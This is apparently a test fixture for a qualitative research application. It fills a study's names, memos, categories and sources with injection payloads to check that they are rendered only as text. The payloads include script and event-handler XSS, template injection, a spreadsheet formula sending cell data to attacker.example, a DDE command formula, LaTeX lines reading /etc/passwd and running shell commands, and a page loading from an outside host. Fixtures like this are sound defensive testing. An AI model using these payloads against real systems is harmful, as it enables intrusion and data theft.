// A study in which everything that somebody can name or write tries to be a program: what shows it, or writes it into a file, must show words.
import { writeMemo } from '../../electron/commands/memos.ts';
import { writeSynthesis } from '../../electron/commands/cells.ts';
import { updateCategory } from '../../electron/commands/codebook.ts';
import { saveMatrix } from '../../electron/commands/matrices.ts';
import { updateProject } from '../../electron/commands/project.ts';
import { saveResearchQuestion } from '../../electron/commands/research-questions.ts';
import { aProject } from './project.ts';
import type { TestProject } from './project.ts';

/** Runs `trameWasHere` wherever one of these is taken for more than words. */
export const HOSTILE = {
  image: '<img src=x onerror="globalThis.trameWasHere=1">',
  script: '</script></style></title></textarea><script>globalThis.trameWasHere=1</script>',
  svg: '<svg onload="globalThis.trameWasHere=1"><a href="javascript:globalThis.trameWasHere=1">x</a></svg>',
  frame: '<iframe srcdoc="<script>parent.trameWasHere=1</script>" src="data:text/html,<script>alert(1)</script>"></iframe>',
  attribute: '" autofocus onfocus="globalThis.trameWasHere=1" x="\' onmouseover=\'globalThis.trameWasHere=1',
  link: 'javascript:globalThis.trameWasHere=1',
  template: '${globalThis.trameWasHere=1} {{constructor.constructor("trameWasHere=1")()}} <%= 1 %> $& $1 __proto__',
  comment: '--><script>globalThis.trameWasHere=1</script><!-- ]]><x/>',
  style: '</style><style>@import "https://attacker.example/x.css"; body { background: url(https://attacker.example/x) }',
  turned: '\u202Egnp.exe\u202C \u2066 \u200B',
  formula: '=HYPERLINK("https://attacker.example/?"&A1,"x")',
  tex: '\\input{/etc/passwd} \\write18{id} $x$ %',
} as const;

/** Begin as a spreadsheet's formulas do. */
export const FORMULAS = ['=1+1', '+1+1', '-1+1', '@SUM(1)', '\t=1+1', "=cmd|' /C calc'!A0"] as const;

/** On one line, short enough for any name. */
const name = (words: string, sign: string): string => `${words.slice(0, 150)} ${sign}`;

export function aHostileStudy(): TestProject {
  const { image, script, svg, frame, attribute, template, comment, style, turned, formula, tex, link } = HOSTILE;
  const said = `${image}\n${formula} : ${script} ${svg} ${frame}\n${name(attribute, '')} : ${template} ${tex}\n${link} : ${comment} ${style} ${turned}\nFin : Ce passage est codé.\n`;
  const project = aProject()
    .withCase(name(image, '1'), { [name(svg, 'a')]: image })
    .withCase(name(formula, '2'), { [name(svg, 'a')]: formula });
  project
    .withSource(name(script, 's'), said, { case: name(image, '1') })
    .withSource(name(formula, 't'), 'Nom : Un autre passage codé.\n', { case: name(formula, '2') });
  project.withOwnGrid(name(frame.replaceAll('/', '-'), 'g'), { [name(image, 'c')]: [name(attribute, 'd')], [name(formula, 'e')]: [] });
  const passage = project.coding(image, name(image, 'c'), 'Ce passage est codé');
  project.codedBy('AB', name(formula, 'e'), 'Un autre passage').codedBy('AB', name(attribute, 'd'), formula);
  for (const [at, sign] of [image, attribute, formula].entries()) {
    const categoryId = project.category(name(sign, ['c', 'd', 'e'][at] ?? ''));
    updateCategory(project.session, { categoryId, definition: `${script} ${image}`, inclusion: svg, exclusion: frame, example: formula });
  }
  for (const words of Object.values(HOSTILE))
    writeMemo(project.session, { memoId: null, targetKind: 'passage', targetId: passage, title: name(words, 'm'), text: words });
  const crossing = [`category:${project.category(name(image, 'c'))}`, `case:${project.case(name(image, '1'))}`];
  writeSynthesis(project.session, { entityKeys: crossing, text: `${image} ${script} ${formula}`, status: 'ready' });
  const [gridId] = [project.snapshot()['grid']].flat().map((row) => (row as { id: string }).id);
  saveMatrix(project.session, {
    matrixId: null,
    name: name(script, 'x'),
    definition: {
      rows: [{ kind: 'grid', gridId: gridId as never, level: null }],
      columns: [{ kind: 'case' }],
      join: { kind: 'overlap' },
      coderIds: null,
      contents: ['counts', 'passages', 'synthesis'],
      hidesEmpty: false,
    },
  });
  updateProject(project.session, { title: name(image, 'titre'), question: script });
  saveResearchQuestion(project.session, { questionId: null, text: image, expression: null, position: null });
  return project;
}

/** A file of the web that would run, fetch or lead away, as somebody might be sent one. */
export const HOSTILE_PAGE = `<html><head><meta http-equiv="refresh" content="0;url=http://OUTSIDE/"><base href="http://OUTSIDE/"><link rel="stylesheet" href="http://OUTSIDE/a.css">
<style>@import url(http://OUTSIDE/b.css);</style><script src="http://OUTSIDE/a.js"></script><script>globalThis.trameWasHere = 1</script></head>
<body onload="globalThis.trameWasHere = 1"><p>Anne : Je parle. <img src="http://OUTSIDE/a.png" onerror="globalThis.trameWasHere = 1"></p>
<iframe src="http://OUTSIDE/"></iframe><object data="http://OUTSIDE/"></object><p>Luc : Je réponds &lt;img src=x onerror="globalThis.trameWasHere=1"&gt;.</p></body></html>`;
